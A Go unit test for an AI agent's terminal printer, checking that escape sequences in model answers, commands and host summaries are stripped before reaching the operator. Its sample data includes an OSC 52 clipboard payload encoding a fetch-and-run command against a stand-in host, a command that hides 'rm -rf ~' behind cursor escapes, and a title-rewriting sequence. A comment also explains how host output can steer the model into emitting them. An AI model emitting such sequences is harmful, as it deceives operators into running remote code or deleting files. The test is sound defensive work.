package agent

import (
	"bytes"
	"strings"
	"testing"
)

// TestAskPrintsNoTerminalEscapes: the console's transcript turns
// the model's control characters into U+FFFD (agentview.clean: "an ESC
// would start an escape sequence in the operator's terminal"). rex ask's
// text transcript writes the model's answer, its commands and the hosts'
// error summaries to the terminal as they are: a model steered by what a
// host printed can set the clipboard (OSC 52), retitle the window or
// rewrite what the operator sees above.
func TestAskPrintsNoTerminalEscapes(t *testing.T) {
	var out, errOut bytes.Buffer
	p := &textPrinter{out: &out, err: &errOut}
	osc52 := "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
	p.event(Event{Type: EventText, Text: "All good." + osc52 + "\n"})
	p.event(Event{Type: EventToolStart, Tool: "bash", Command: "uptime\x1b[2K\rrm -rf ~", Target: "local", Hosts: []string{"local"}})
	p.event(Event{Type: EventToolResult, Tool: "bash", Summary: "0/1 ok; local: \x1b[31mred\x1b[0m"})
	p.event(Event{Type: EventConsent, Tool: "bash", Command: "x\x1b]0;title\x07", Target: "local", Decision: ConsentRefused})
	for name, s := range map[string]string{"stdout": out.String(), "stderr": errOut.String()} {
		if strings.ContainsRune(s, 0x1b) || strings.ContainsRune(s, 0x07) {
			t.Errorf("rex ask wrote control characters to %s: %q", name, s)
		}
	}
}
